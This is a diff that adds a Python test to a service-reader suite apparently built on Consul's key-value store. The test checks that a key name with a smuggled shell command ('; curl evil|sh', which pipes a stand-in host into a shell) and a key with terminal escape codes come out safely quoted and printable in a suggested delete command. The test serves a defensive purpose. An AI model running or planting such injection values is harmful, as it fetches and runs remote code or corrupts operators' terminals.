@@ -90,3 +90,11 @@ def test_each_service_is_read_below_its_own_prefix(
     assert {name: info["current"] for name, info in told.items()} == {
         name: f"{prefix}/services/{name}/current" for name, prefix in found.items()
     }
+
+
+def test_a_key_that_somebody_has_made_for_a_shell_or_a_terminal_harms_neither() -> None:
+    told = read_services(t.cast("t.Any", Kv("nodes/x; curl evil|sh/web", b"")), "longshore")["web"].told()
+    assert told["problems"][0].endswith("(consul kv delete 'longshore/services/web/nodes/x; curl evil|sh/web').")
+    told = read_services(t.cast("t.Any", Kv("releases/r\x1b[2J\nnode1: none", b"{}")), "longshore")["web"].told()
+    assert told["problems"][0].isprintable()
+    assert r"(consul kv delete $'longshore/services/web/releases/r\x1b[2J\nnode1: none')" in told["problems"][0]
